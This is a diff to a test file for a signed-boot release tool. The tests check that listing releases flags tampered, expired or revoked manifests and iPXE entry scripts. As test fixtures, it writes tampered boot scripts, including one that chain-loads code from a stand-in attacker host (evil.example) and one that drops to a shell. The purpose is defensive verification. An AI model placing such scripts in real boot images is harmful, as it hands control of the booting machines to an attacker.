@@ -6,11 +6,15 @@ there: the listing used to show that release clean, and the operator picked it t
 back to. Now the listing judges release.json against release.json.sig with the trust
 anchors and iPXE's rules the publish gates use, shows that signature's signer, and asks the
 CA index (or --crl) about it; a manifest it cannot verify is UNVERIFIED, with the reason,
-never shown with the signer it claims. Against a real file:// origin and the session pki;
-the revocation in a copy of it made by `trustboot ca revoke`."""
+never shown with the signer it claims. A release published from a directory has no
+release.json.sig: its entry script's signature (what the firmware verifies) tells who
+signed it, over the script the manifest records. A signature whose only fault is the clock
+shows its signer, EXPIRED, and is still looked up for revocation. Against a real file://
+origin and the session pki; the revocation in a copy of it made by `trustboot ca revoke`."""
 
 from __future__ import annotations
 
+import datetime as dt
 import json
 import shutil
 from pathlib import Path
@@ -142,17 +146,193 @@ def test_a_tampered_manifest_is_unverified(pki: Pki, origin: tuple[str, Path]) -
     assert infos["r2"]["verified"] is True  # the others are judged on their own
 
 
-def test_a_missing_signature_is_unverified(pki: Pki, origin: tuple[str, Path]) -> None:
-    url, srv = origin
-    name, _ = subject(pki, "boot-signer")
-    (srv / "releases" / "r1" / "release.json.sig").unlink()
+@pytest.fixture
+def plain(pki: Pki, make_release: ReleaseFactory, tmp_path: Path) -> tuple[str, Path]:
+    """file:// origin with p1 published with plain `trustboot publish DIR` (its entry
+    script and .sig signed by boot-signer, release.json unsigned) and p0 without an entry
+    script at all."""
+    srv = tmp_path / "plain"
+    url = f"file://{srv}"
+    bare = make_release({"vmlinuz": b"kernel" * 100})
+    r = run("publish", str(bare), url, "--release-id", "p0", "--pki", str(pki.dir))
+    assert r.exit_code == 0, r.output
+    release = make_release({"boot.ipxe": b"#!ipxe\necho plain\n"})
+    r = run("publish", str(release), url, "--release-id", "p1", "--pki", str(pki.dir))
+    assert r.exit_code == 0, r.output
+    assert not (srv / "releases" / "p1" / "release.json.sig").exists()
+    return url, srv
+
+
+def test_a_plain_published_release_shows_its_entry_signer(
+        pki: Pki, plain: tuple[str, Path]) -> None:
+    """No release.json.sig: the entry script's signature proves the signer, and the row
+    says so; a release with no entry script stays UNVERIFIED, saying why."""
+    url, _ = plain
+    name, serial = subject(pki, "boot-signer")
     r = run("publish", "list", url, "--pki", str(pki.dir))
     assert r.exit_code == 0, r.output
-    line = line_of(r.output, "r1")
-    assert name not in line and "UNVERIFIED" in line and "has no signature" in line
+    line = line_of(r.output, "p1")
+    assert f"signer {name} (serial {serial}, by its entry script's signature)" in line
+    assert "UNVERIFIED" not in line and "expires -" not in line
+    bare = line_of(r.output, "p0")
+    assert "UNVERIFIED" in bare and "no entry script" in bare and "signer -" in bare
     infos = listed(url, "--pki", str(pki.dir))
-    assert infos["r1"]["verified"] is False and infos["r1"]["signer"] is None
-    assert infos["r1"]["unverified"]["rule"] == "manifest-unsigned"
+    p1 = infos["p1"]
+    assert p1["verified"] is True and p1["verified_by"] == "entry"
+    assert p1["state"] == "verified" and p1["unverified"] is None
+    assert p1["signer"] == name and p1["signer_serial"] == serial and p1["expiry"]
+    p0 = infos["p0"]
+    assert p0["verified"] is False and p0["verified_by"] is None and p0["signer"] is None
+    assert p0["unverified"]["rule"] == "manifest-unsigned" and p0["state"] == "unverified"
+
+
+def test_a_signed_manifest_says_it_proved_the_signer(
+        pki: Pki, origin: tuple[str, Path]) -> None:
+    url, _ = origin
+    infos = listed(url, "--pki", str(pki.dir))
+    assert infos["r1"]["verified_by"] == "manifest"
+    r = run("publish", "list", url, "--pki", str(pki.dir))
+    assert "by its entry script" not in line_of(r.output, "r1")
+
+
+@pytest.mark.parametrize("change", ["script", "same-size-script", "signature",
+                                    "unsigned-manifest-follows"])
+def test_a_tampered_entry_of_a_plain_release_is_unverified(
+        pki: Pki, plain: tuple[str, Path], tmp_path: Path, change: str) -> None:
+    """The entry script changed on the origin (its .sig kept), its .sig replaced by one
+    over another script, or the script changed and the unsigned release.json edited to
+    record it: UNVERIFIED, no signer shown."""
+    url, srv = plain
+    rel = srv / "releases" / "p1"
+    script = rel / "boot.ipxe"
+    evil = b"#!ipxe\nchain http://evil.example/x\n"
+    if change == "same-size-script":
+        evil = script.read_bytes().replace(b"plain", b"evil!")
+    if change == "signature":
+        other = tmp_path / "other" / "boot.ipxe"
+        other.parent.mkdir()
+        other.write_bytes(evil)
+        pki.sign([other], other.parent)
+        (rel / "boot.ipxe.sig").write_bytes((other.parent / "boot.ipxe.sig").read_bytes())
+    else:
+        script.write_bytes(evil)
+    if change == "unsigned-manifest-follows":
+        import hashlib
+
+        doc = json.loads((rel / "release.json").read_text())
+        for f in doc["files"]:
+            if f["name"] == "boot.ipxe":
+                f["size"], f["sha256"] = len(evil), hashlib.sha256(evil).hexdigest()
+        (rel / "release.json").write_text(json.dumps(doc))
+    infos = listed(url, "--pki", str(pki.dir))
+    p1 = infos["p1"]
+    assert p1["verified"] is False and p1["signer"] is None and p1["expiry"] is None
+    assert p1["state"] == "unverified" and p1["verified_by"] is None
+    expected = {"script": "entry-changed", "same-size-script": "entry-changed",
+                "signature": "signature-mismatch",
+                "unsigned-manifest-follows": "signature-mismatch"}[change]
+    assert p1["unverified"]["rule"] == expected, p1
+    r = run("publish", "list", url, "--pki", str(pki.dir))
+    assert "UNVERIFIED" in line_of(r.output, "p1")
+
+
+def test_a_plain_release_whose_entry_is_gone_is_unverified(
+        pki: Pki, plain: tuple[str, Path]) -> None:
+    url, srv = plain
+    (srv / "releases" / "p1" / "boot.ipxe.sig").unlink()
+    p1 = listed(url, "--pki", str(pki.dir))["p1"]
+    assert p1["signer"] is None and p1["unverified"]["rule"] == "entry-missing"
+    assert "boot.ipxe.sig" in p1["unverified"]["reason"]
+
+
+def test_a_missing_manifest_signature_is_not_the_entry_s_when_it_fails(
+        pki: Pki, origin: tuple[str, Path]) -> None:
+    """A release.json.sig that is there but does not verify is never replaced by the
+    entry's: a manifest changed on the origin is a finding of its own."""
+    url, srv = origin
+    manifest = srv / "releases" / "r1" / "release.json"
+    manifest.write_text(manifest.read_text().replace('"version"', ' "version"', 1))
+    r1 = listed(url, "--pki", str(pki.dir))["r1"]
+    assert r1["verified"] is False and r1["signer"] is None
+    assert r1["unverified"]["rule"] == "signature-mismatch"
+
+
+def clock(monkeypatch: pytest.MonkeyPatch, pki: Pki, after: dt.timedelta) -> dt.datetime:
+    """The CLI's clock ``after`` boot-signer's notAfter; returns that notAfter."""
+    cert = x509.load_pem_x509_certificate(pki.cert("boot-signer").read_bytes())
+    end = cert.not_valid_after_utc
+    monkeypatch.setattr("trustboot.cli.publish.utc_now", lambda: end + after)
+    return end
+
+
+@pytest.mark.parametrize("after", [dt.timedelta(days=1), dt.timedelta(hours=1)],
+                         ids=["ipxe-refuses", "within-ipxe-margin"])
+def test_an_expired_signer_shows_expired_with_its_signer(
+        pki: Pki, origin: tuple[str, Path], plain: tuple[str, Path],
+        monkeypatch: pytest.MonkeyPatch, after: dt.timedelta) -> None:
+    """A day after boot-signer's notAfter iPXE refuses the signatures (rule expired); an
+    hour after, iPXE's margin still takes them and the gates do not. Either way the row
+    shows who signed it, its serial and its chain's end, EXPIRED, not UNVERIFIED: those
+    are the releases an operator rules out before a rollback. For a signed manifest and
+    for a plain release's entry alike."""
+    end = clock(monkeypatch, pki, after)
+    name, serial = subject(pki, "boot-signer")
+    for url, rid, by in ((origin[0], "r1", "manifest"), (plain[0], "p1", "entry")):
+        r = run("publish", "list", url, "--pki", str(pki.dir))
+        assert r.exit_code == 0, r.output
+        line = line_of(r.output, rid)
+        assert f"signer {name} (serial {serial}" in line, line
+        assert f"expires {end:%Y-%m-%d}" in line and "EXPIRED" in line, line
+        assert "UNVERIFIED" not in line and "REVOKED" not in line
+        info = listed(url, "--pki", str(pki.dir))[rid]
+        assert info["state"] == "expired" and info["verified"] is False, info
+        assert info["unverified"] is None and info["verified_by"] == by
+        assert info["signer"] == name and info["signer_serial"] == serial
+        assert info["expiry"] == end.isoformat()
+        assert info["expired"]["rule"] == "expired" and info["revoked"] is None
+
+
+def test_an_expired_and_revoked_signer_shows_revoked(
+        pki: Pki, origin: tuple[str, Path], plain: tuple[str, Path], revoked_pki: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """An expired signer is still looked up: revoked wins in the row."""
+    clock(monkeypatch, pki, dt.timedelta(days=1))
+    for url, rid in ((origin[0], "r1"), (plain[0], "p1")):
+        r = run("publish", "list", url, "--pki", str(revoked_pki))
+        assert r.exit_code == 0, r.output
+        line = line_of(r.output, rid)
+        assert "REVOKED" in line and "key_compromise" in line and "EXPIRED" not in line
+        info = listed(url, "--pki", str(revoked_pki))[rid]
+        assert info["state"] == "revoked" and info["revoked"]["name"] == "boot-signer"
+        assert info["expired"]["rule"] == "expired"  # (both, in --json)
+
+
+def test_an_expired_signature_that_does_not_match_is_unverified(
+        pki: Pki, origin: tuple[str, Path], plain: tuple[str, Path],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past the signer's expiry a changed release.json, or a changed entry script whose
+    unsigned manifest was edited to match, is still UNVERIFIED (the signature does not
+    match), never EXPIRED with a signer."""
+    import hashlib
+
+    clock(monkeypatch, pki, dt.timedelta(days=1))
+    url, srv = origin
+    manifest = srv / "releases" / "r1" / "release.json"
+    manifest.write_text(manifest.read_text().replace('"version"', ' "version"', 1))
+    r1 = listed(url, "--pki", str(pki.dir))["r1"]
+    assert r1["state"] == "unverified" and r1["signer"] is None and r1["expired"] is None
+    assert r1["unverified"]["rule"] == "signature-mismatch"
+    url, srv = plain
+    rel = srv / "releases" / "p1"
+    evil = b"#!ipxe\nshell\n"
+    (rel / "boot.ipxe").write_bytes(evil)
+    doc = json.loads((rel / "release.json").read_text())
+    doc["files"] = [f | {"size": len(evil), "sha256": hashlib.sha256(evil).hexdigest()}
+                    if f["name"] == "boot.ipxe" else f for f in doc["files"]]
+    (rel / "release.json").write_text(json.dumps(doc))
+    p1 = listed(url, "--pki", str(pki.dir))["p1"]
+    assert p1["state"] == "unverified" and p1["signer"] is None
+    assert p1["unverified"]["rule"] == "signature-mismatch"
 
 
 @pytest.mark.parametrize("sig", ["huge", "garbage", "empty", "truncated", "directory"])
@@ -173,6 +353,9 @@ def test_a_hostile_signature_is_unverified_not_a_crash(
     r = run("publish", "list", url, "--pki", str(pki.dir), "--json")
     assert r.exit_code == 0, r.output
     infos = {i["id"]: i for i in json.loads(r.stdout)}
+    if sig == "directory":  # no object release.json.sig: judged as a plain release
+        assert infos["r1"]["verified_by"] == "entry" and infos["r2"]["verified"] is True
+        return
     assert infos["r1"]["verified"] is False and infos["r1"]["signer"] is None
     assert infos["r1"]["unverified"]["reason"], infos["r1"]
     assert infos["r2"]["verified"] is True
@@ -196,12 +379,14 @@ def test_no_trust_anchors_lists_every_release_unverified(
     assert "--trust" in infos[0]["unverified"]["reason"]
 
 
-def test_one_read_more_per_release(pki: Pki, origin: tuple[str, Path],
-                                   monkeypatch: pytest.MonkeyPatch) -> None:
-    """Each release's manifest and its .sig, read once each; nothing else is read (the
-    .sig's presence comes from the listing of releases/ the command makes anyway)."""
+def test_reads_per_release_are_bounded(pki: Pki, origin: tuple[str, Path],
+                                       plain: tuple[str, Path],
+                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each release's manifest and its .sig, read once each; a release without one, its
+    entry script and the entry's .sig, once each; an entry-less one, nothing more. The
+    presence of each comes from the listing of releases/ the command makes anyway."""
     url, srv = origin
-    (srv / "releases" / "r2" / "release.json.sig").unlink()  # none: no read at all
+    (srv / "releases" / "r2" / "release.json.sig").unlink()  # judged by its entry
     reads: list[str] = []
     real = FileOrigin.read
 
@@ -213,4 +398,10 @@ def test_one_read_more_per_release(pki: Pki, origin: tuple[str, Path],
     listed(url, "--pki", str(pki.dir))
     release_reads = sorted(k for k in reads if k.startswith("releases/"))
     assert release_reads == ["releases/r1/release.json", "releases/r1/release.json.sig",
+                             "releases/r2/boot.ipxe", "releases/r2/boot.ipxe.sig",
                              "releases/r2/release.json"], reads
+    reads.clear()
+    listed(plain[0], "--pki", str(pki.dir))
+    release_reads = sorted(k for k in reads if k.startswith("releases/"))
+    assert release_reads == ["releases/p0/release.json", "releases/p1/boot.ipxe",
+                             "releases/p1/boot.ipxe.sig", "releases/p1/release.json"], reads
